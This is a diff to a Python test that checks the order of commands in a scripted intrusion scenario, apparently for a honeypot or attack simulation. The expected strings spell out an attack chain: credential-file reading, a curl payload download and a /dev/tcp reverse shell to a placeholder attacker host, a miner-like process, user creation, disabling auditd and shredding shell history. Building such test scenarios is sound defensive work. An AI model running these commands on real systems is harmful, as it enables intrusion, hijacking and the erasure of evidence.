@@ -292,11 +292,10 @@ def test_story_runs_in_order() -> None:
     typed = lines(STORY_DEVICE)
     wanted = (
         "id",
-        "uname -a",
         "cat /etc/passwd",
         "ss -tulpn",
         "find / -perm -4000 -type f",
-        f"curl -fsSL http://{ATTACKER}:8080/k/x.tgz -o /tmp/.x/x.tgz",
+        f"curl -fsSL http://{ATTACKER}:8080/k/dbus-hlp --create-dirs -o /tmp/.x/dbus-hlp",
         "chmod +x /tmp/.x/kworkerds /tmp/.x/dbus-hlp",
         f"bash -c /bin/sh -i >& /dev/tcp/{ATTACKER}/4444 0>&1",
         "useradd -m -s /bin/bash",
@@ -305,8 +304,8 @@ def test_story_runs_in_order() -> None:
         "auditctl -e 0",
         "auditctl -e 1",
         f"/tmp/.x/kworkerds -o {ATTACKER}:3333",
-        "rm -f /home/operator/.bash_history",
-        "service auditd stop",
+        "shred -u /home/operator/.bash_history",
+        "/bin/sh /usr/sbin/service auditd stop",
     )
     places = [next(n for n, line in enumerate(typed) if line.startswith(want)) for want in wanted]
     assert places == sorted(places)
